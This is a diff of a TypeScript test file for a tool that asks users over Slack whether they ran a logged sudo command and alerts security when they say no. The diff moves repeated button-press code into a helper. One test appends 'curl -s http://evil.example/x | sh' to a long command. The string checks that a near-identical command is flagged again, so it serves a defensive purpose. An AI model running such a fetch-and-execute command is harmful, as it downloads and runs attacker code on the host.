@@ -5,8 +5,8 @@ import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
 import type { App } from '../../src/app.ts';
 import { ManualClock } from '../../src/clock.ts';
 import { captureLog } from '../helpers/capture-log.ts';
-import { dmChannel, pressButton } from '../notifiers/servers/slack.ts';
-import { ALICE, buttonToken, mailLink, SIGNING, startApp, startWorld, sudoLine, type World, WAIT } from './fixture.ts';
+import { dmChannel } from '../notifiers/servers/slack.ts';
+import { ALICE, buttonToken, mailLink, pressInSlack, startApp, startWorld, sudoLine, type World, WAIT } from './fixture.ts';
 
 const T0 = Date.parse('2026-11-30T12:00:00Z');
 const CMD = '/usr/bin/systemctl stop nginx';
@@ -81,15 +81,7 @@ describe('ask: was this you?', () => {
 
   it('"not me" through a signed Slack button tells security at once', async () => {
     const { dm } = await asked();
-    const res = await pressButton({
-      url: `http://127.0.0.1:${world.httpPort}/slack/actions`,
-      signingSecret: SIGNING,
-      responseUrl: `${world.slack.url}/actions/T0RELAY/1/abc`,
-      userId: ALICE,
-      actionId: 'relay_answer_no',
-      value: buttonToken(dm, 'no'),
-      timestamp: Math.floor(clock.now() / 1000),
-    });
+    const res = await pressInSlack(world, clock, dm, 'no');
     expect(res.status).toBe(200);
     await vi.waitFor(() => expect(world.security.received).toHaveLength(1), WAIT);
     expect(world.security.json<{ title: string; message: string }>()[0]!.title).toBe(`alice says she did not run ${CMD} on web1`);
@@ -111,15 +103,7 @@ describe('ask: was this you?', () => {
 
   it('"yes" ends it: security is told at info level, nothing at the timeout, and the same call is not asked again for on_yes.quiet_for (security is told)', async () => {
     const { dm } = await asked();
-    const res = await pressButton({
-      url: `http://127.0.0.1:${world.httpPort}/slack/actions`,
-      signingSecret: SIGNING,
-      responseUrl: `${world.slack.url}/actions/T0RELAY/1/abc`,
-      userId: ALICE,
-      actionId: 'relay_answer_yes',
-      value: buttonToken(dm, 'yes'),
-      timestamp: Math.floor(clock.now() / 1000),
-    });
+    const res = await pressInSlack(world, clock, dm, 'yes');
     expect(JSON.parse(res.body)).toEqual({ answer: 'yes' });
     // The DM's question is replaced (its buttons go) through the interaction's response_url.
     await vi.waitFor(
@@ -150,15 +134,7 @@ describe('ask: was this you?', () => {
     const dms = world.slack.messages.length;
     app.accept(sudoLine(clock, 'alice', 'web1', long));
     await vi.waitFor(() => expect(world.slack.messages.length).toBe(dms + 1), WAIT);
-    const res = await pressButton({
-      url: `http://127.0.0.1:${world.httpPort}/slack/actions`,
-      signingSecret: SIGNING,
-      responseUrl: `${world.slack.url}/actions/T0RELAY/1/abc`,
-      userId: ALICE,
-      actionId: 'relay_answer_yes',
-      value: buttonToken(world.slack.messages.at(-1)!, 'yes'),
-      timestamp: Math.floor(clock.now() / 1000),
-    });
+    const res = await pressInSlack(world, clock, world.slack.messages.at(-1)!, 'yes');
     expect(JSON.parse(res.body)).toEqual({ answer: 'yes' });
     // The same first 120 characters, then something else: a different call, asked.
     const other = `${long.slice(0, 120)}; curl -s http://evil.example/x | sh`;
@@ -187,15 +163,7 @@ describe('ask: was this you?', () => {
     const dms = world.slack.messages.length;
     app.accept(sudoLine(clock, 'alice', 'web1', hostile));
     await vi.waitFor(() => expect(world.slack.messages.length).toBe(dms + 1), WAIT);
-    await pressButton({
-      url: `http://127.0.0.1:${world.httpPort}/slack/actions`,
-      signingSecret: SIGNING,
-      responseUrl: `${world.slack.url}/actions/T0RELAY/1/abc`,
-      userId: ALICE,
-      actionId: 'relay_answer_yes',
-      value: buttonToken(world.slack.messages.at(-1)!, 'yes'),
-      timestamp: Math.floor(clock.now() / 1000),
-    });
+    await pressInSlack(world, clock, world.slack.messages.at(-1)!, 'yes');
     await vi.waitFor(() => expect(world.slack.responses).toHaveLength(1), WAIT);
     const { text } = world.slack.responses[0] as { text: string };
     expect(text).toBe(
